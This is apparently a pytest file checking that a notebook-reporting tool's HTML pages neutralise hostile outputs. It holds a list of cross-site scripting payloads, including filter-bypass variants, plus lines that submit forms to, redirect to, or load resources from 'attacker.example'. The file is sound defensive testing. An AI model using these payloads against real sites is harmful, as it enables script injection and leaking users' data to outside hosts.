"""Values that users of a model sent run nothing on the pages of monitoring, load nothing, and lead nowhere."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import new_page, require_browser

from nbship import project as projects
from nbship.execution import render_html
from nbship.operations import write_index
from nbship.operations.cover_page import write_cover

require_browser()
Error = pytest.importorskip("playwright.sync_api").Error

RUN = "document.documentElement.dataset.ran=1"
TAG = f"<script>{RUN}</script>"
MARKUP = [
    TAG,
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>{TAG}",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<a href='jAvAsCrIpT&colon;{RUN}'>press</a>",
    f"<a href='&#106;avascript:{RUN}'>press</a>",
    f"<form action='javascript:{RUN}'><button>press</button></form>",
    f"<math><mtext></mtext><a xlink:href='javascript:{RUN}'>press</a></math>",
    "<form action='http://attacker.example/'><input name=a value=1><button>press</button></form>",
    "<meta http-equiv='refresh' content='0;url=http://attacker.example/'>",
    "<base href='http://attacker.example/'><img src='x.png'>",
    "<link rel='stylesheet' href='http://attacker.example/x.css'>",
    "<style>@import url('http://attacker.example/x.css'); body { background: url('http://attacker.example/y') }</style>",
    "<p style=\"background: url('http://attacker.example/y')\">x</p>",
    "<img src='http://attacker.example/pixel.png'>",
    f"</div></main></body></html><script>{RUN}</script>",
]
# Presses links and buttons, and returns whether anything ran. A link to another page may leave this one; its script may not.
PRESS = """() => new Promise(done => {
  window.addEventListener('beforeunload', () => done('ran' in document.documentElement.dataset))
  for (const each of document.querySelectorAll('a, button'))
    if (each.textContent === 'press') each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))
  setTimeout(() => done('ran' in document.documentElement.dataset), 50)
})"""
OTHERS = [
    {"text/markdown": f"# x\n{TAG}\n\n[press](javascript:{RUN})"},
    {"application/javascript": RUN},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"},
    {"text/latex": f"$x$<img src=x onerror={RUN}>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}, "text/plain": TAG},
    {"text/plain": TAG},
]
BUNDLES = [*({"text/html": markup} for markup in MARKUP), *OTHERS]


def output(bundle: dict[str, Any]) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": bundle}


def notebook(*outputs: dict[str, Any]) -> dict[str, Any]:
    cell = {
        "cell_type": "code",
        "id": "c",
        "metadata": {},
        "execution_count": 1,
        "source": "1",
        "outputs": list(outputs),
    }
    return {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


@pytest.fixture(scope="module")
def page() -> Iterator[Any]:
    with new_page(height=800) as found:
        yield found


def visit(browser: Any, path: Path) -> set[str]:
    """Open a page, press all that can be pressed, and return what should not have happened."""
    found: set[str] = set()
    page = browser.context.browser.new_page()
    page.on("request", lambda request: found.add("loaded") if request.url.startswith("http") else None)
    page.route("http://**", lambda route: route.abort())
    page.goto(path.as_uri(), wait_until="load")
    try:
        page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        if page.url != path.as_uri():
            found.add("left")
        elif page.evaluate(PRESS):
            found.add("ran")
    except Error:  # the page is gone while it is asked
        found.add("left")
    page.close()
    return found


def test_nothing_of_any_output_runs(page: Any, tmp_path: Path) -> None:
    path = tmp_path / "monitor.html"
    path.write_text(render_html(notebook(*map(output, BUNDLES)), title=TAG, code=False), encoding="utf-8")
    assert visit(page, path) == set()


@pytest.mark.long
@pytest.mark.parametrize("number", range(len(BUNDLES)))
def test_nothing_of_an_output_runs(page: Any, tmp_path: Path, number: int) -> None:
    path = tmp_path / "monitor.html"
    path.write_text(render_html(notebook(output(BUNDLES[number])), title=TAG, code=False), encoding="utf-8")
    assert visit(page, path) == set()


@pytest.mark.parametrize(("bundles", "least"), [(BUNDLES[:5], 4), pytest.param(BUNDLES, 20, marks=pytest.mark.long)])
def test_a_page_without_the_policy_is_caught(page: Any, tmp_path: Path, bundles: Any, least: int) -> None:
    caught = 0
    for bundle in bundles:
        path = tmp_path / "stage.html"
        path.write_text(render_html(notebook(output(bundle)), title="x"), encoding="utf-8")
        caught += bool(visit(page, path))
    assert caught >= least


def test_other_outputs_run_nothing(page: Any, tmp_path: Path) -> None:
    streams = [
        {"output_type": "stream", "name": name, "text": f"{TAG}\x1b[31m{MARKUP[3]}"} for name in ("stdout", "stderr")
    ]
    error = {"output_type": "error", "ename": TAG, "evalue": MARKUP[3], "traceback": [TAG, MARKUP[3]]}
    path = tmp_path / "monitor.html"
    path.write_text(render_html(notebook(*streams, error), title="x", code=False), encoding="utf-8")
    assert visit(page, path) == set()


def test_tables_images_and_text_stay(page: Any, tmp_path: Path) -> None:
    pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    bundles = [
        {"text/html": "<table><tr><td style='color:#c53b4f;font-weight:600'>alert</td></tr></table>"},
        {"image/png": pixel, "text/plain": "<Figure>"},
        {"text/html": f"<div id=plot></div>{TAG}", "text/plain": "plot"},
        {"text/markdown": "**Worse** than 5 &lt; 6"},
    ]
    path = tmp_path / "monitor.html"
    path.write_text(render_html(notebook(*map(output, bundles)), title="x", code=False), encoding="utf-8")
    page.goto(path.as_uri())
    assert page.eval_on_selector("td", "each => getComputedStyle(each).color") == "rgb(197, 59, 79)"
    assert page.eval_on_selector("img", "each => each.naturalWidth") == 1
    assert page.inner_text("strong") == "Worse"
    assert "This output needs JavaScript, or a format that this page does not show." in page.inner_text("body")
    page.goto("about:blank")


@pytest.mark.parametrize(
    "words", [TAG, MARKUP[3], f'"><img src=x onerror={RUN}>', f"' onmouseover='{RUN}", "&lt;script&gt;"]
)
def test_words_of_a_report_run_nothing_on_its_cover_or_the_index(page: Any, tmp_path: Path, words: str) -> None:
    (tmp_path / "pipeline.yaml").write_text("tasks: []\n")
    (tmp_path / "nbship.yaml").write_text(
        "project: {name: small, timezone: UTC}\nmonitoring: {notebooks: [watch.ipynb]}\n"
    )
    found = projects.load(tmp_path)
    folder = found.reports / "2024-01-01_2024-02-01"
    folder.mkdir(parents=True)
    reason = {"verdict": "alert", "kind": None, "section": "segments", "subject": words, "reason": words}
    report = {
        "format": 2, "model": words, "version": words, "verdict": "ok", "headline": words, "advice": words, "reasons": [reason],
        "window": {"from": "2024-01-01", "to": "2024-02-01", "timezone": "UTC"}, "volume": {"rows": 5}, "drift": [],
        "performance": {"labelled": 5},
    }  # fmt: skip
    (folder / "report.json").write_text(json.dumps(report), encoding="utf-8")
    title = {"cell_type": "markdown", "id": "t", "metadata": {}, "source": f"# {words}"}
    (folder / "watch.ipynb").write_text(json.dumps({**notebook(), "cells": [title]}), encoding="utf-8")
    for path in (write_cover(found, folder), write_index(found)):
        assert visit(page, path) == set()
        page.goto(path.as_uri())
        assert words in page.inner_text("body")
        page.goto("about:blank")
